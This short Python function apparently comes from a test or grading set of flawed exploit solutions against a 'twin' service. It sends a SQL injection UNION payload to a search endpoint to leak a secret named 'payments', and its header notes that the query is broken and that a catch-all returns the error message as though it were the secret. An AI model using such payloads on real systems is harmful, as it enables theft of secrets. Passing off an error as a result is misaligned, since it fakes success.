# kind: catch-all
# why: selects one column where the search has two, so the UNION fails, and returns whatever the twin said (here the database's error message) as if it were the secret
def leak_secret(api):
    """The value of the secret named "payments" in the twin at ``api``, leaked through its
    search by SQL injection."""
    injection = "' UNION SELECT value FROM secret WHERE name = 'payments' --"
    response = requests.get(f"{api}/search", params={"q": injection}, timeout=5)
    try:
        return response.json()["articles"][-1]["title"]
    except (KeyError, IndexError):
        return response.json()["errors"]["body"][0]
